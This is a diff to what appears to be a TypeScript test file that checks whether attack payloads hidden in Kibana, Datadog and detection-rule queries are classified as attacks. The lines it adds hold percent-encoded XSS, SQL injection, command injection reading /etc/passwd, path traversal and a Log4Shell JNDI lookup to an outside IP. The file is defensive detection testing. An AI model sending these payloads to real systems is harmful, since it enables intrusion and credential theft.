@@ -105,6 +105,12 @@ const ATTACKS: [string, string][] = [
   ['detection rule', 'process where x in ("a") and system("id")'],
   ['detection rule', 'a:b and c in (select password from users)'],
   ['Datadog log search', 'process where process.name in ("a") and x == "b" | id'],
+  // Payloads percent-encoded into a wildcard term, which a search may now hold (`*..%2F*`): the decoded form is scored.
+  ['Kibana KQL filter', 'a:b AND c:*%3Cscript%3Ealert(1)%3C%2Fscript%3E*'],
+  ['Datadog log search', 'a:b AND c:*%27%20OR%201%3D1%20--%20*'],
+  ['detection rule', 'a:b AND c:*%22%20%7C%20cat%20%2Fetc%2Fpasswd*'],
+  ['Kibana KQL filter', 'a:b and c:*..%2F..%2F..%2F..%2Fetc%2Fpasswd%00*'],
+  ['Datadog log search', 'a:b and c:*%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D*'],
 ];
 
 async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): Promise<Map<string, string>> {
